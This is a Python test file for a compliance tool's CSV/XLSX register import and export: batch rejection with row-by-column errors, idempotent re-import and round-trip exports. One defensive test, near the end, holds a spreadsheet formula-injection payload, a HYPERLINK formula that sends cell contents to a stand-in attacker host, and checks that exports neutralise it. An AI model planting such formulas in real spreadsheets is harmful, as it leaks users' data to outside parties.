"""Registers in and out of CSV and XLSX: an import is checked whole and rejected with every problem
by row and column, or kept as one batch; the same file again changes nothing; exports round-trip
and never hand a spreadsheet a formula."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from tests.registers.conftest import ENGINEERING, OWNER, SECURITY, log_files, statements

from assay.errors import InputError
from assay.programme.model import Programme
from assay.registers import service
from assay.registers.files import export_csv, export_xlsx, import_file, read_rows
from assay.registers.kinds import KINDS, Kind
from assay.registers.models import Change, Record

pytestmark = [pytest.mark.db, pytest.mark.django_db]

RISKS = KINDS["risks"]
UECS = KINDS["user-entity-controls"]
HEADER = ["id", "title", "likelihood", "impact", "owner", "controls", "last_reviewed"]
GOOD = [
    ["R-1", "Takeover of production", "4", "5", SECURITY, "AC-03; AC-09", "2026-02-01"],
    ["R-2", "Vendor exposes customer data", "3", "5", OWNER, "VR-03", ""],
    ["R-3", "Unreviewed change", "2", "4", ENGINEERING, "", "2026-03-15"],
]


def write_csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


def write_xlsx(path: Path, header: list[str], rows: list[list[object]]) -> Path:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def _rows(kind: Kind) -> list[tuple[str, int]]:
    return list(Record.objects.filter(kind=kind.name).values_list("key", "version"))


def test_a_csv_file_is_imported_as_one_batch(programme: Programme, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "risks.csv", HEADER, GOOD)

    assert import_file(programme, RISKS, path, SECURITY) == (3, 0)

    assert _rows(RISKS) == [("R-1", 1), ("R-2", 1), ("R-3", 1)]
    first = service.records_of(RISKS)[0]
    assert first.model_dump()["controls"] == ("AC-03", "AC-09")
    assert first.model_dump()["last_reviewed"] == date(2026, 2, 1)
    assert service.records_of(RISKS)[1].model_dump()["last_reviewed"] is None
    batches = {s.subject: s for _, s in statements(programme) if s.kind == "register"}
    assert set(batches) == {"risks/R-1", "risks/R-2", "risks/R-3"}
    assert {s.parameters["action"] for s in batches.values()} == {"imported"}
    assert len({s.recorded_at for s in batches.values()}) == 1  # appended together
    assert Change.objects.filter(action="imported").count() == 3


def test_an_xlsx_file_is_imported_with_its_dates_and_numbers(
    programme: Programme, tmp_path: Path
) -> None:
    path = write_xlsx(
        tmp_path / "risks.xlsx",
        HEADER,
        [
            ["R-1", "Takeover of production", 4, 5, SECURITY, "AC-03;AC-09", date(2026, 2, 1)],
            ["R-2", "Vendor exposes customer data", 3, 5, OWNER, None, datetime(2026, 3, 2)],
            [None, None, None, None, None, None, None],
        ],
    )

    assert import_file(programme, RISKS, path, SECURITY) == (2, 0)

    one, two = service.records_of(RISKS)
    assert one == RISKS.parse(
        {
            "id": "R-1",
            "title": "Takeover of production",
            "likelihood": 4,
            "impact": 5,
            "owner": SECURITY,
            "controls": ["AC-03", "AC-09"],
            "last_reviewed": date(2026, 2, 1),
        }
    )
    assert two.model_dump()["last_reviewed"] == date(2026, 3, 2)
    assert two.model_dump()["controls"] == ()


def test_numbers_a_spreadsheet_made_of_ids_and_versions_are_read_as_text(
    programme: Programme, tmp_path: Path
) -> None:
    header = ["id", "title", "version", "owner", "review_every_months"]
    path = write_xlsx(
        tmp_path / "policies.xlsx",
        header,
        [[101, "Access control", 2.0, SECURITY, 12], [102, "Encryption", 1.5, SECURITY, 6.0]],
    )
    assert import_file(programme, KINDS["policies"], path, SECURITY) == (2, 0)
    first, second = service.records_of(KINDS["policies"])
    assert (first.key, first.version, second.key, second.version) == ("101", "2", "102", "1.5")
    assert second.review_every_months == 6


def _bad_risks() -> tuple[list[str], list[list[str]]]:
    header = [*HEADER, "colour"]
    rows = [
        [*GOOD[0], "red"],
        ["R-2", "Bad date", "3", "3", OWNER, "", "2026-13-45", ""],
        ["R-3", "Unknown owner", "3", "3", "nobody@acme.example", "", "", ""],
        ["R-4", "Unknown control", "3", "3", OWNER, "AC-03;ZZ-99", "", ""],
        ["R-1", "The same id again", "1", "1", OWNER, "", "", ""],
    ]
    return header, rows


def _where(rejected: pytest.ExceptionInfo[service.RecordsRejected]) -> list[tuple[str, str]]:
    return [(p.where, p.field) for p in rejected.value.problems]


def test_a_bad_csv_file_is_rejected_whole_with_every_problem_by_row_and_column(
    programme: Programme, tmp_path: Path
) -> None:
    import_file(programme, RISKS, write_csv(tmp_path / "first.csv", HEADER, GOOD[2:]), SECURITY)
    before = log_files(programme)
    header, rows = _bad_risks()

    with pytest.raises(service.RecordsRejected) as rejected:
        import_file(programme, RISKS, write_csv(tmp_path / "risks.csv", header, rows), SECURITY)

    assert _where(rejected) == [
        ("risks.csv:1", "colour"),
        ("risks.csv:3", "last_reviewed"),
        ("risks.csv:4", "owner"),
        ("risks.csv:5", "controls"),
        ("risks.csv:6", "id"),
    ]
    messages = [p.message for p in rejected.value.problems]
    assert messages[0].startswith("unknown column")
    assert messages[2] == "unknown person 'nobody@acme.example'"
    assert messages[3] == "unknown control 'ZZ-99'"
    assert messages[4] == "'R-1' is also on row 2"
    assert "5 problem(s), nothing written" in str(rejected.value)
    assert isinstance(rejected.value, InputError)  # the command line's exit 2
    assert _rows(RISKS) == [("R-3", 1)]
    assert Change.objects.count() == 1
    assert log_files(programme) == before


def test_a_bad_xlsx_file_is_rejected_whole_naming_unknown_vendors_and_controls(
    programme: Programme, tmp_path: Path
) -> None:
    before = log_files(programme)
    path = write_xlsx(
        tmp_path / "uec.xlsx",
        ["id", "vendor", "description", "control", "answer"],
        [
            ["UEC-1", "Amazon Web Services", "MFA for console users", "AC-03", "Checked"],
            ["UEC-2", "Nobody Inc", "Remove leavers", "AC-05", ""],
            ["UEC-3", "Ticketdesk", "Encrypt exports", "ZZ-01", ""],
            ["UEC-1", "Ticketdesk", "Again", "AC-03", ""],
        ],
    )

    with pytest.raises(service.RecordsRejected) as rejected:
        import_file(programme, UECS, path, SECURITY)

    assert [(p.where, p.field, p.message) for p in rejected.value.problems] == [
        ("uec.xlsx:3", "vendor", "unknown vendor 'Nobody Inc'"),
        ("uec.xlsx:4", "control", "unknown control 'ZZ-01'"),
        ("uec.xlsx:5", "id", "'UEC-1' is also on row 2"),
    ]
    assert not Record.objects.exists() and not Change.objects.exists()
    assert log_files(programme) == before


def test_a_missing_column_is_named_once_on_the_header_and_the_rows_still_checked(
    programme: Programme, tmp_path: Path
) -> None:
    path = write_csv(
        tmp_path / "risks.csv",
        ["id", "title", "title", "impact"],
        [["R-1", "A", "A", "3"], ["R-2", "B", "B", "9"]],
    )
    with pytest.raises(service.RecordsRejected) as rejected:
        import_file(programme, RISKS, path, SECURITY)
    assert _where(rejected) == [
        ("risks.csv:1", "header"),
        ("risks.csv:1", "likelihood"),
        ("risks.csv:3", "impact"),
    ]
    assert not Record.objects.exists()


def test_files_that_are_not_registers_are_refused(programme: Programme, tmp_path: Path) -> None:
    empty = tmp_path / "empty.csv"
    empty.write_text("")
    with pytest.raises(InputError, match="empty"):
        import_file(programme, RISKS, empty, SECURITY)
    only_header = write_csv(tmp_path / "header.csv", HEADER, [])
    with pytest.raises(InputError, match="no rows to import"):
        import_file(programme, RISKS, only_header, SECURITY)
    text = tmp_path / "risks.txt"
    text.write_text("id\n")
    with pytest.raises(InputError, match=r"\.csv or \.xlsx"):
        import_file(programme, RISKS, text, SECURITY)
    broken = tmp_path / "risks.xlsx"
    broken.write_bytes(b"PK\x03\x04 not really a workbook")
    with pytest.raises(InputError, match="not a readable XLSX file"):
        import_file(programme, RISKS, broken, SECURITY)
    latin = tmp_path / "latin.csv"
    latin.write_bytes("id,title\nR-1,Caf\xe9\n".encode("latin-1"))
    with pytest.raises(InputError, match="not UTF-8"):
        import_file(programme, RISKS, latin, SECURITY)
    wide = write_csv(tmp_path / "wide.csv", HEADER, [[*GOOD[0], "extra"]])
    with pytest.raises(service.RecordsRejected, match="more cells than columns"):
        import_file(programme, RISKS, wide, SECURITY)
    assert not Record.objects.exists()


def test_importing_the_same_file_again_changes_nothing(
    programme: Programme, tmp_path: Path
) -> None:
    path = write_csv(tmp_path / "risks.csv", HEADER, GOOD)
    import_file(programme, RISKS, path, SECURITY)
    before = log_files(programme)

    assert import_file(programme, RISKS, path, SECURITY) == (0, 3)
    assert log_files(programme) == before
    assert _rows(RISKS) == [("R-1", 1), ("R-2", 1), ("R-3", 1)]

    changed = [GOOD[0], [*GOOD[1][:3], "4", *GOOD[1][4:]], GOOD[2]]
    assert import_file(programme, RISKS, write_csv(path, HEADER, changed), OWNER) == (1, 2)
    assert _rows(RISKS) == [("R-1", 1), ("R-2", 2), ("R-3", 1)]


def _incidents_and_risks(programme: Programme) -> None:
    for row in GOOD:
        data: dict[str, object] = dict(zip(HEADER, row, strict=True))
        data["controls"] = [c.strip() for c in row[5].split(";") if c.strip()]
        data["last_reviewed"] = row[6] or None
        service.add(programme, RISKS, data, SECURITY)
    service.add(
        programme,
        KINDS["incidents"],
        {
            "id": "INC-1",
            "title": "API down",
            "severity": "high",
            "status": "resolved",
            "detected_at": "2026-03-01T09:00:00+00:00",
            "contained_at": "2026-03-01T10:30:00+00:00",
            "resolved_at": "2026-03-01T17:00:00+00:00",
            "postmortem": '## What happened\n\nAn expired certificate, with a comma, and "quotes".',
            "controls": ["IR-02", "CR-04"],
        },
        SECURITY,
    )


@pytest.mark.parametrize("name", ["risks", "incidents"])
def test_a_csv_export_imports_back_unchanged(
    programme: Programme, tmp_path: Path, name: str
) -> None:
    _incidents_and_risks(programme)
    kind = KINDS[name]
    records = service.records_of(kind)
    path = tmp_path / f"{name}.csv"
    path.write_text(export_csv(kind, records), encoding="utf-8")

    header, _ = read_rows(path)
    assert header == list(kind.columns)
    assert import_file(programme, kind, path, OWNER) == (0, len(records))
    assert service.records_of(kind) == records


@pytest.mark.parametrize("name", ["risks", "incidents"])
def test_an_xlsx_export_imports_back_unchanged(
    programme: Programme, tmp_path: Path, name: str
) -> None:
    _incidents_and_risks(programme)
    kind = KINDS[name]
    records = service.records_of(kind)
    path = tmp_path / f"{name}.xlsx"
    export_xlsx(kind, records, path)

    assert import_file(programme, kind, path, OWNER) == (0, len(records))
    assert service.records_of(kind) == records


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_an_export_never_hands_a_spreadsheet_a_formula(
    programme: Programme, tmp_path: Path
) -> None:
    service.add(
        programme,
        RISKS,
        {"id": "R-1", "title": FORMULA, "likelihood": 1, "impact": 1, "plan": "+1 more"},
        SECURITY,
    )
    records = service.records_of(RISKS)

    rows = list(csv.DictReader(io.StringIO(export_csv(RISKS, records))))
    assert rows[0]["title"] == "'" + FORMULA
    assert rows[0]["plan"] == "'+1 more"
    assert rows[0]["id"] == "R-1"

    path = tmp_path / "risks.xlsx"
    export_xlsx(RISKS, records, path)
    sheet = load_workbook(path).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    title = sheet.cell(row=2, column=header.index("title") + 1)
    assert (title.value, title.data_type) == (FORMULA, "s")
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type == "s" for cell in cells)
    assert import_file(programme, RISKS, path, OWNER) == (0, 1)
